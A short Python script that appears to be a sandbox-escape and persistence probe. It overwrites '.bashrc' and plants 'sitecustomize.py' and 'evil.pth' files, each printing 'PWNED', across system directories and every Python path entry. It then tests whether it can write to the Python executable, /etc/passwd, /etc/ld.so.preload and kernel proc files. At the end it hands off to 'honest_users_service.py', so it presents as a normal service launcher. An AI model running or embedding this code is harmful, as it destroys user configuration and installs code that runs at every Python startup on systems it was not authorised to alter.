import os
import sys
from pathlib import Path

places = ["/", "/etc", "/usr", "/root", "/home", "/tmp", "/var/tmp", "/dev/shm", "/run", sys.prefix, os.path.expanduser("~")]
here = Path.cwd()
places += [str(here / ("../" * count)) for count in range(1, 9)]
places += [str(Path(entry)) for entry in sys.path if entry]
for place in places:
    for name in ("canary-of-the-attacker", ".bashrc", "sitecustomize.py", "evil.pth"):
        try:
            Path(place, name).write_text("print('PWNED')")
            print("wrote", place, name)
        except OSError:
            pass
for path in (sys.executable, os.__file__, "/etc/passwd", "/etc/ld.so.preload", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
    try:
        with open(path, "r+b") as file:
            print("could write", path)
    except OSError:
        pass

exec(compile(open("honest_users_service.py", encoding="utf-8").read(), "honest_users_service.py", "exec"))
